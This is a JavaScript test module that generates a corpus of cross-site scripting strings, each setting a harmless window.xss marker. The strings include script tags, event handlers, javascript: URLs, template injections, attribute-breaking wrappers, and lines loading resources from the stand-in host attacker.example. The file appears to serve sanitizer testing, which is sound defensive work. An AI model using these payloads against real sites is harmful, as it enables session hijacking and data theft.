// A hundred texts that would run code if a page took them for markup. Each sets `window.xss`.

const RUN = "window.xss=1";

const VECTORS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=data:,${RUN}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>parent.xss=1</script>">`,
  `<iframe src="javascript:parent.xss=1">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}" form=x>x</button>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<base href="//attacker.example/">`,
  `<link rel=stylesheet href="//attacker.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import "//attacker.example/x.css";</style>`,
  `<!--<img src="--><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u202e<script>${RUN}</script>`,
  `#/now?x=<img src=x onerror=${RUN}>`,
  "__proto__",
  "constructor",
];

const FRAMES = [(vector) => vector, (vector) => `"'>${vector}`, (vector) => `</title></textarea></script>${vector}`];

const MAX_CHARS = 128;

export const CORPUS = FRAMES.flatMap((frame) => VECTORS.map(frame)).filter((text) => [...text].length <= MAX_CHARS).slice(0, 100);
